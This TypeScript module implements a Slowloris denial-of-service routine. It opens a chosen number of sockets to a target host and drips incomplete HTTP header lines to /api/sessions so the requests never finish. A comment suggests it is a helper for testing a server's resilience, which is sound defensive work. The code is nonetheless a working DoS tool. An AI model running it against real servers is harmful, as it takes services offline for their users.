/**
 * Slowloris: connections that send a request's headers a line at a time, slowly, and never finish them. A server
 * that gives each connection a thread, or waits for headers before serving anyone else, stops answering.
 */
import net from 'node:net'

export type Slowloris = { open(): number; close(): void }

/** Opens `count` such connections to `url`'s host and port; each sends another header line every `everyMs`. */
export async function slowloris(url: string, count: number, everyMs = 200): Promise<Slowloris> {
  const { hostname, port } = new URL(url)
  const sockets = await Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<net.Socket>((resolve, reject) => {
          const s = net.connect(Number(port), hostname, () => {
            s.write(`GET /api/sessions HTTP/1.1\r\nHost: ${hostname}:${port}\r\n`)
            resolve(s)
          })
          s.once('error', reject)
        }),
    ),
  )
  for (const s of sockets) s.on('error', () => {}) // a server that closes them is doing its job
  let n = 0
  const drip = setInterval(() => {
    n++
    for (const s of sockets) if (!s.destroyed) s.write(`X-Slow-${n}: ${'a'.repeat(10)}\r\n`)
  }, everyMs)
  return {
    open: () => sockets.filter((s) => !s.destroyed).length,
    close() {
      clearInterval(drip)
      for (const s of sockets) s.destroy()
    },
  }
}
